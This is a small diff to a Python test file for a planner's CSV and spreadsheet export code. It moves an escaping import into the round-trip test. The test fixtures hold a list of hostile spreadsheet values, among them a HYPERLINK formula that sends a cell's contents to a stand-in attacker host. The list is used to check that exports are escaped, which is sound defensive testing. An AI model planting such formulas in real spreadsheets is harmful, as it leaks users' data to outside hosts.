@@ -20,7 +20,6 @@ from planner.formats.criteria import (
     parse_csv,
     parse_xlsx,
 )
-from planner.formats.spreadsheet import csv_escape, csv_unescape
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&B5,"Bitte klicken")',
@@ -68,6 +67,8 @@ def test_criteria_exports_never_hold_a_formula_and_read_back():
 
 
 def test_csv_escape_round_trip():
+    from planner.formats.spreadsheet import csv_escape, csv_unescape
+
     for text in [*HOSTILE, "", "normal", "'", "a'b", "-", "=", "Stufe 3"]:
         assert csv_unescape(csv_escape(text)) == text
         escaped = csv_escape(text)
